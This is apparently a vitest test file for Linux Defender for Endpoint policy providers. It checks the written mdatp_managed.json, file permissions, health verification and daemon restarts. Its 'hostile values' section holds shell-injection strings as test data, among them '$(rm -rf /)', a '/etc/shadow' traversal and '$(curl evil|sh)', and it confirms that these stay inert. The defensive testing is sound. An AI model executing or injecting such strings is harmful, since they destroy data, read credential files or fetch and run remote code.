// Boundary tests of the Linux Defender for Endpoint providers: the exact mdatp_managed.json a policy produces, the
// file's mode and owner, keys of others kept, the not-installed reason, SETTING_NOT_ENFORCED when mdatp health
// disagrees, the daemon restart for cloud diagnostics, and hostile values staying inert data.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { SettingValue } from '../../../../policy-schemas/src/index.js';
import type { SettingChange } from '../../core/plan.js';
import type { ServiceControl } from '../../system/service-control.js';
import { MDATP_NOT_INSTALLED } from '../mdatp/cli.js';
import { JSON_CODEC } from '../mdatp/managed-config.js';
import type { MdatpProvider } from '../mdatp/provider.js';
import { type TestHost, testHost } from '../mdatp/testing/test-host.js';
import { createLinuxMdatpProviders, LINUX_MDATP_MANAGED_PATH } from './mdatp-providers.js';

const PATH = LINUX_MDATP_MANAGED_PATH;

function setup(options: Parameters<typeof testHost>[3] & { owner?: { uid: number; gid: number } | null; services?: ServiceControl } = {}) {
  const { owner = { uid: 0, gid: 0 }, services, ...emulated } = options;
  const host = testHost('linux', PATH, JSON_CODEC, emulated);
  const providers = createLinuxMdatpProviders(
    { runner: host.runner, files: host.files, sleep: host.sleep, ...(services ? { services } : {}) },
    { owner, verify: { attempts: 3, delayMs: 500 } },
  );
  const by = (kind: string): MdatpProvider => {
    const p = providers.find((x) => x.kind === kind);
    if (!p) throw new Error(`no ${kind} provider`);
    return p;
  };
  return { host, providers, av: by('antivirus'), exclusions: by('antivirusExclusions'), edr: by('edr') };
}

function set(settingId: string, to: SettingValue | undefined, kind = 'antivirus'): SettingChange {
  return { settingId, kind: kind as SettingChange['kind'], from: undefined, to };
}

async function fileJson(host: TestHost): Promise<Record<string, unknown>> {
  return JSON.parse((await host.files.read(PATH)) ?? 'null');
}

const POLICY = {
  antivirus: [
    set('mdatp.antivirusEngine.enforcementLevel', 'real_time'),
    set('mdatp.antivirusEngine.behaviorMonitoring', 'enabled'),
    set('mdatp.antivirusEngine.maximumOnDemandScanThreads', 4),
    set('mdatp.antivirusEngine.threatTypeSettings', [{ key: 'potentially_unwanted_application', value: 'block' }]),
    set('mdatp.cloudService.enabled', true),
    set('mdatp.cloudService.automaticSampleSubmissionConsent', 'none'),
    set('mdatp.features.supplementarySensorConfigurations.enableRawSocketEvent', 'enabled'),
    set('mdatp.networkProtection.enforcementLevel', 'audit'),
  ],
  exclusions: [
    set(
      'mdatp.antivirusEngine.exclusions',
      [
        { $type: 'excludedPath', path: '/var/lib/build', isDirectory: true },
        { $type: 'excludedFileExtension', extension: '.log' },
      ],
      'antivirusExclusions',
    ),
    set('mdatp.antivirusEngine.exclusionsMergePolicy', 'admin_only', 'antivirusExclusions'),
  ],
  edr: [
    set('mdatp.edr.tags', ['finance'], 'edr'),
    set('mdatp.edr.groupIds', 'finance-servers', 'edr'),
    set(
      'mdatp.exclusionSettings.exclusions',
      [
        { $type: 'excludedPath', path: '/opt/backup', isDirectory: true },
        { $type: 'excludedFileName', name: '/usr/bin/rsync', scopes: ['global'] },
        { $type: 'excludedFileExtension', extension: '.pdf', scopes: ['epp'] },
      ],
      'edr',
    ),
    set('mdatp.exclusionSettings.mergePolicy', 'admin_only', 'edr'),
  ],
};

describe('createLinuxMdatpProviders', () => {
  it('returns one provider per kind with Linux mdatp settings', () => {
    const { providers } = setup();
    expect(providers.map((p) => p.kind)).toEqual(['antivirus', 'antivirusExclusions', 'edr']);
  });

  it('writes exactly the expected mdatp_managed.json for a policy, 0600 root, and reads it back', async () => {
    const { host, av, exclusions, edr } = setup();
    for (const [provider, changes] of [
      [av, POLICY.antivirus],
      [exclusions, POLICY.exclusions],
      [edr, POLICY.edr],
    ] as const) {
      expect(await provider.apply(changes)).toEqual(changes.map((c) => ({ settingId: c.settingId, ok: true })));
      const seen = await provider.observe(changes.map((c) => c.settingId));
      for (const c of changes) expect(seen.get(c.settingId)).toEqual(c.to);
    }
    expect(await host.files.read(PATH)).toBe(readFileSync(new URL('testdata/mdatp-managed-expected.json', import.meta.url), 'utf8'));
    expect(host.files.writes.map((w) => w.options)).toEqual([
      { mode: 0o600, uid: 0, gid: 0 },
      { mode: 0o600, uid: 0, gid: 0 },
      { mode: 0o600, uid: 0, gid: 0 },
    ]);
    expect(host.files.dirs.get('/etc/opt/microsoft/mdatp/managed')).toBe(0o755);
    // mdatp itself only ever gets the fixed health command.
    expect(new Set(host.mdatpCalls().map((a) => a.join(' ')))).toEqual(new Set(['health --output json']));
  });

  it('leaves the owner alone when not running as root', async () => {
    const { host, av } = setup({ owner: null });
    await av.apply([set('mdatp.cloudService.enabled', false)]);
    expect(host.files.writes.map((w) => w.options)).toEqual([{ mode: 0o600 }]);
  });

  it('keeps keys it does not manage and restores the file when its values are removed', async () => {
    const { host, av, edr } = setup();
    const foreign = {
      antivirusEngine: { scanArchives: false, someFutureKey: { a: [1, 'two', null] } },
      otherVendor: { enabled: true, 'quoted "key"': 'x' },
      edr: { tags: [{ key: 'AzureResourceId', value: '/subscriptions/1' }] },
    };
    await host.files.writeAtomic(PATH, JSON.stringify(foreign));
    const ids = ['mdatp.antivirusEngine.scanArchives', 'mdatp.antivirusEngine.enforcementLevel'];
    expect(Object.fromEntries(await av.observe(ids))).toEqual({
      'mdatp.antivirusEngine.scanArchives': false,
      'mdatp.antivirusEngine.enforcementLevel': undefined,
    });
    expect(await edr.observe(['mdatp.edr.tags'])).toEqual(new Map([['mdatp.edr.tags', []]]));

    await av.apply([set('mdatp.antivirusEngine.enforcementLevel', 'passive'), set('mdatp.antivirusEngine.scanArchives', true)]);
    await edr.apply([set('mdatp.edr.tags', ['finance'], 'edr')]);
    expect(await fileJson(host)).toEqual({
      antivirusEngine: { scanArchives: true, someFutureKey: { a: [1, 'two', null] }, enforcementLevel: 'passive' },
      otherVendor: { enabled: true, 'quoted "key"': 'x' },
      edr: {
        tags: [
          { key: 'AzureResourceId', value: '/subscriptions/1' },
          { key: 'GROUP', value: 'finance' },
        ],
      },
    });

    // Restore: the pre-management value where there was one, removal where there was none.
    await av.apply([set('mdatp.antivirusEngine.enforcementLevel', undefined), set('mdatp.antivirusEngine.scanArchives', false)]);
    await edr.apply([set('mdatp.edr.tags', [], 'edr')]);
    expect(await fileJson(host)).toEqual(foreign);
  });

  it('says mdatp is not installed, applies nothing and still removes its own values', async () => {
    const { host, av } = setup({ installed: false });
    await host.files.writeAtomic(PATH, '{"cloudService":{"enabled":false},"mine":1}');
    await av.refreshInstallState();
    expect(av.unsupportedReason('mdatp.cloudService.enabled')).toBe(MDATP_NOT_INSTALLED);
    const results = await av.apply([set('mdatp.antivirusEngine.enforcementLevel', 'real_time'), set('mdatp.cloudService.enabled', undefined)]);
    expect(results).toEqual([
      { settingId: 'mdatp.antivirusEngine.enforcementLevel', ok: false, code: 'SETTING_NOT_APPLICABLE', message: MDATP_NOT_INSTALLED },
      { settingId: 'mdatp.cloudService.enabled', ok: true },
    ]);
    expect(await fileJson(host)).toEqual({ mine: 1 });

    // Installed later: the next probe notices.
    host.mdatp.options.installed = true;
    await av.refreshInstallState();
    expect(av.unsupportedReason('mdatp.cloudService.enabled')).toBeUndefined();
  });

  it('reports SETTING_NOT_ENFORCED with both values when mdatp health keeps disagreeing', async () => {
    const { host, av } = setup({ ignored: new Set(['mdatp.antivirusEngine.enforcementLevel']) });
    const results = await av.apply([set('mdatp.antivirusEngine.enforcementLevel', 'real_time'), set('mdatp.cloudService.enabled', false)]);
    expect(results).toEqual([
      {
        settingId: 'mdatp.antivirusEngine.enforcementLevel',
        ok: false,
        code: 'SETTING_NOT_ENFORCED',
        message: 'mdatp health reports real_time_protection_enabled=false, expected true for "real_time"',
      },
      { settingId: 'mdatp.cloudService.enabled', ok: true },
    ]);
    // One reading right after the write, then two more after a pause each (attempts: 3).
    expect(host.sleeps).toEqual([500, 500]);
    // The file holds the value: observe reports it; health is what proved it is not in force.
    expect((await av.observe(['mdatp.antivirusEngine.enforcementLevel'])).get('mdatp.antivirusEngine.enforcementLevel')).toBe('real_time');
  });

  it('waits for mdatp to pick a value up before deciding', async () => {
    const ignored = new Set(['mdatp.networkProtection.enforcementLevel']);
    const { host, av } = setup({ ignored });
    // The daemon takes the file at the third reading of this apply: the probe, the first check, the check after a pause.
    let readings = 0;
    host.mdatp.onHealth = () => {
      if (++readings === 3) ignored.clear();
    };
    expect(await av.apply([set('mdatp.networkProtection.enforcementLevel', 'block')])).toEqual([
      { settingId: 'mdatp.networkProtection.enforcementLevel', ok: true },
    ]);
    expect(host.sleeps).toEqual([500]);
  });

  it('reports a daemon that cannot be asked as not enforced, with the reason', async () => {
    const { host, av } = setup();
    host.mdatp.options.failHealth = 'Could not connect to daemon';
    expect(await av.apply([set('mdatp.cloudService.enabled', false)])).toEqual([
      {
        settingId: 'mdatp.cloudService.enabled',
        ok: false,
        code: 'SETTING_NOT_ENFORCED',
        message: `written to ${PATH}, but mdatp health could not confirm it: /usr/bin/mdatp health --output json: exit 1: Could not connect to daemon`,
      },
    ]);
    expect(await fileJson(host)).toEqual({ cloudService: { enabled: false } });
  });

  it('restarts mdatp after a cloud diagnostic level change, and only then', async () => {
    const restarts: string[] = [];
    const services: ServiceControl = { isActive: async () => true, restart: async (name) => void restarts.push(name) };
    const { av } = setup({ services });
    await av.apply([set('mdatp.cloudService.diagnosticLevel', 'optional')]);
    await av.apply([set('mdatp.cloudService.diagnosticLevel', 'optional'), set('mdatp.cloudService.enabled', true)]);
    expect(restarts).toEqual(['mdatp']);
  });

  it('restarts through systemd by default and reports a failed restart on the setting', async () => {
    const { host, av } = setup();
    await av.apply([set('mdatp.cloudService.diagnosticLevel', 'optional')]);
    expect(host.mdatp.restarts).toBe(1);
    expect(host.runner.calls.filter((c) => c.file === 'systemctl').map((c) => c.args)).toEqual([['restart', 'mdatp']]);

    const failing: ServiceControl = {
      isActive: async () => false,
      restart: async () => {
        throw new Error('systemctl restart mdatp: exit 5: Unit mdatp.service not found.');
      },
    };
    const other = setup({ services: failing });
    expect(await other.av.apply([set('mdatp.cloudService.diagnosticLevel', 'required'), set('mdatp.cloudService.enabled', true)])).toEqual([
      {
        settingId: 'mdatp.cloudService.diagnosticLevel',
        ok: false,
        code: 'SETTING_APPLY_FAILED',
        message: 'written, but restarting mdatp to apply it failed: systemctl restart mdatp: exit 5: Unit mdatp.service not found.',
      },
      { settingId: 'mdatp.cloudService.enabled', ok: true },
    ]);
  });

  it('never overwrites a managed file it cannot parse', async () => {
    const { host, av } = setup();
    await host.files.writeAtomic(PATH, '{ not json');
    const results = await av.apply([set('mdatp.cloudService.enabled', false)]);
    expect(results).toEqual([
      {
        settingId: 'mdatp.cloudService.enabled',
        ok: false,
        code: 'SETTING_APPLY_FAILED',
        message: expect.stringMatching(/is not a valid JSON document, left unchanged/),
      },
    ]);
    expect(await host.files.read(PATH)).toBe('{ not json');
    await expect(av.observe(['mdatp.cloudService.enabled'])).rejects.toThrow(/not a valid JSON document/);
  });

  it('says why it cannot take settings of other platforms, kinds or unknown ids', () => {
    const { av, edr } = setup();
    expect(av.unsupportedReason('defender.AllowRealtimeMonitoring')).toBe('defender.AllowRealtimeMonitoring does not apply to Linux (Windows only)');
    expect(av.unsupportedReason('mdatp.userInterface.hideStatusMenuIcon')).toBe('mdatp.userInterface.hideStatusMenuIcon does not apply to Linux (macOS only)');
    expect(edr.unsupportedReason('mdatp.cloudService.enabled')).toBe('mdatp.cloudService.enabled is a antivirus setting, not edr');
    expect(av.unsupportedReason('mdatp.nope')).toBe('unknown setting mdatp.nope');
  });
});

describe('hostile values', () => {
  const HOSTILE = [
    '/tmp/a"b\'c',
    '/tmp/$(rm -rf /)',
    '/tmp/`id`',
    '/tmp/x; reboot | tee & echo',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, deliberately not a template
    '/tmp/%PATH%/${HOME}',
    '/tmp/../../etc/shadow',
    '/tmp/\\u0000 not a nul, \\\\ backslashes',
    '/tmp/</dict>]]>&amp;',
  ];

  it('end up as inert JSON strings, never in a command line', async () => {
    const { host, exclusions } = setup();
    const value = [...HOSTILE.map((path) => ({ $type: 'excludedPath', path })), { $type: 'excludedFileName', name: '$(curl evil|sh)' }];
    const [result] = await exclusions.apply([set('mdatp.antivirusEngine.exclusions', value, 'antivirusExclusions')]);
    expect(result).toEqual({ settingId: 'mdatp.antivirusEngine.exclusions', ok: true });
    expect(((await fileJson(host)).antivirusEngine as Record<string, unknown>).exclusions).toEqual(value);
    for (const call of host.runner.calls)
      for (const part of [call.file, ...call.args, call.stdin ?? '']) for (const h of HOSTILE) expect(part).not.toContain(h);
  });

  it('owns only the Linux keys: macOS-only ones are not applicable with the reason', () => {
    const { av, edr } = setup();
    expect(av.unsupportedReason('mdatp.features.systemExtensions')).toBe('mdatp.features.systemExtensions does not apply to Linux (macOS only)');
    expect(edr.unsupportedReason('mdatp.edr.earlyPreview')).toBe('mdatp.edr.earlyPreview does not apply to Linux (macOS only)');
    expect(edr.unsupportedReason('mdatp.exclusionSettings.exclusions')).toBeUndefined();
    expect(av.unsupportedReason('mdatp.networkProtection.disableIcmpInspection')).toBeUndefined();
  });

  it("writes the sensor and feature switches where Microsoft's JSON examples put them", async () => {
    const { host, av } = setup();
    const changes = [
      set('mdatp.features.sendLowfiEvents', 'enabled'),
      set('mdatp.features.remediateInfectedFile', 'enabled'),
      set('mdatp.features.enableAntivirusEngineCache', 'enabled'),
    ];
    expect(await av.apply(changes)).toEqual(changes.map((c) => ({ settingId: c.settingId, ok: true })));
    expect(await fileJson(host)).toEqual({
      features: { supplementarySensorConfigurations: { sendLowfiEvents: 'enabled' }, remediateInfectedFile: 'enabled', enableAntivirusEngineCache: 'enabled' },
    });
  });

  it('refuses global exclusions mdatp does not take globally (wildcards, extensions, process names), writing nothing', async () => {
    const { host, edr } = setup();
    for (const item of [
      { $type: 'excludedPath', path: '/home/*/git' },
      { $type: 'excludedFileExtension', extension: '.pdf', scopes: ['global'] },
      { $type: 'excludedFileName', name: 'cat' },
    ]) {
      const [result] = await edr.apply([set('mdatp.exclusionSettings.exclusions', [item], 'edr')]);
      expect(result, JSON.stringify(item)).toMatchObject({ ok: false, code: 'POLICY_INVALID' });
    }
    expect(await host.files.read(PATH)).toBeUndefined();
  });

  it('a second GROUP tag (a policy signed before the one-tag limit) is refused for that setting only; the last good tag stays', async () => {
    const { host, edr } = setup();
    expect(await edr.apply([set('mdatp.edr.tags', ['finance'], 'edr')])).toEqual([{ settingId: 'mdatp.edr.tags', ok: true }]);
    const results = await edr.apply([set('mdatp.edr.tags', ['finance', 'paw'], 'edr'), set('mdatp.edr.groupIds', 'finance-servers', 'edr')]);
    expect(results).toEqual([
      {
        settingId: 'mdatp.edr.tags',
        ok: false,
        code: 'POLICY_INVALID',
        message: 'mdatp.edr.tags is invalid: /settings/mdatp.edr.tags accepts one value only (one value per tag type), got 2',
      },
      { settingId: 'mdatp.edr.groupIds', ok: true },
    ]);
    expect(await fileJson(host)).toMatchObject({ edr: { tags: [{ key: 'GROUP', value: 'finance' }], groupIds: 'finance-servers' } });
  });

  it('a NUL or a value outside the catalog is refused with a clear error and nothing is written', async () => {
    const { host, exclusions, edr } = setup();
    const results = [
      ...(await exclusions.apply([set('mdatp.antivirusEngine.exclusions', [{ $type: 'excludedFileName', name: 'evil\0.sh' }], 'antivirusExclusions')])),
      ...(await edr.apply([set('mdatp.edr.tags', ['b\0d'], 'edr'), set('mdatp.edr.groupIds', 42, 'edr')])),
    ];
    expect(results).toEqual([
      {
        settingId: 'mdatp.antivirusEngine.exclusions',
        ok: false,
        code: 'POLICY_INVALID',
        message: 'mdatp.antivirusEngine.exclusions: NUL character in [0].name; mdatp cannot take it',
      },
      { settingId: 'mdatp.edr.tags', ok: false, code: 'POLICY_INVALID', message: 'mdatp.edr.tags: NUL character in [0]; mdatp cannot take it' },
      {
        settingId: 'mdatp.edr.groupIds',
        ok: false,
        code: 'POLICY_INVALID',
        message: expect.stringMatching(/^mdatp\.edr\.groupIds is invalid: .*must be string/),
      },
    ]);
    expect(await host.files.read(PATH)).toBeUndefined();
    // Refused before any command: not even the install probe ran (that happens in prepare(), before a sync).
    expect(host.mdatpCalls()).toEqual([]);
  });
});
